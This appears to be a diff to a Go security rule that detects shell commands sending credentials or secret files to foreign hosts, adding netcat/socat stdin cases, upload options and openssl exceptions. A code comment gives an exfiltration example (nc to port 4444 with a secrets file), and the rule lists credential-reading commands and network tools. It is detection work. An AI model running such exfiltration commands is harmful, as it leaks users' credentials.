@@ -18,6 +18,9 @@ func sourceToNetworkRule() Rule {
 		Desc: "A credential source (gh auth token, aws configure export-credentials, secret-tool lookup, pass show, op read, vault read, credential helpers, ~/.aws/credentials…) sent over the network: piped, substituted into a request to a foreign host, or uploaded from a file it wrote",
 		Match: func(e *Env) string {
 			for _, c := range e.F.Cmds(senders...) {
+				if c.Name == "openssl" && !opensslConnects(c) {
+					continue // openssl pkcs12 … | openssl x509 -noout: nothing leaves the machine
+				}
 				if why := sourcePipedInto(e, c); why != "" {
 					return why
 				}
@@ -34,6 +37,9 @@ func sourceToNetworkRule() Rule {
 				}
 				if why := secretFileToForeignHost(e, c); why != "" {
 					return why
+				}
+				if f, ok := strings.CutPrefix(c.Stdin, "< "); ok && secretFile(e.abs(c, f)) && (c.Name == "nc" || c.Name == "ncat" || c.Name == "netcat" || c.Name == "socat" || c.Name == "telnet" || opensslConnects(c)) {
+					return fmt.Sprintf("%s sends %s, a file of secrets, over the network from its input", c.Name, f) // nc host 4444 < /etc/restic/env (secrets17)
 				}
 			}
 			return ""
@@ -67,7 +73,7 @@ func sourcePipedInto(e *Env, c *Cmd) string {
 				return fmt.Sprintf("%s sends %s (from %s) over the network", c.Name, s, d.Name)
 			}
 			for _, p := range e.F.Paths {
-				if p.Op == OpRead && p.Via == u && credentialZone(e, p.Path) {
+				if p.Op == OpRead && p.Via == u && (credentialZone(e, p.Path) || secretFile(p.Path)) {
 					return fmt.Sprintf("%s sends %s, a credentials file, over the network", c.Name, homeRel(p.Path, e.F.Home))
 				}
 			}
@@ -89,9 +95,10 @@ func sourceFileSent(e *Env, c *Cmd) string {
 				continue
 			}
 			for _, a := range c.Args {
-				f := strings.TrimPrefix(strings.TrimPrefix(a, "@"), "<")
-				if f != "" && e.abs(c, f) == r.Target {
-					return fmt.Sprintf("%s uploads %s, where %s wrote %s", c.Name, homeRel(r.Target, e.F.Home), d.Name, s)
+				for _, f := range append(uploadOperands(a), strings.TrimPrefix(strings.TrimPrefix(a, "@"), "<")) {
+					if f != "" && f != "-" && e.abs(c, f) == r.Target {
+						return fmt.Sprintf("%s uploads %s, where %s wrote %s", c.Name, homeRel(r.Target, e.F.Home), d.Name, s)
+					}
 				}
 			}
 		}
@@ -126,10 +133,15 @@ func secretFileToForeignHost(e *Env, c *Cmd) string {
 	if host == "" || ownHost(host) {
 		return ""
 	}
-	for _, a := range c.Args {
+	for ai, a := range c.Args {
+		if loginKeyArg(c, ai) {
+			continue // scp -i KEY: the key it logs in with, not a file it sends
+		}
 		f := a
 		if i := strings.Index(a, "@"); i >= 0 && !strings.Contains(a, "://") {
 			f = a[i+1:]
+		} else if k, v, ok := strings.Cut(a, "="); ok && uploadOpt[k] {
+			f = v // wget --post-file=FILE, curl --upload-file=FILE
 		} else if c.Name != "scp" && c.Name != "rsync" && c.Name != "sftp" || strings.Contains(a, ":") || strings.HasPrefix(a, "-") {
 			continue
 		}
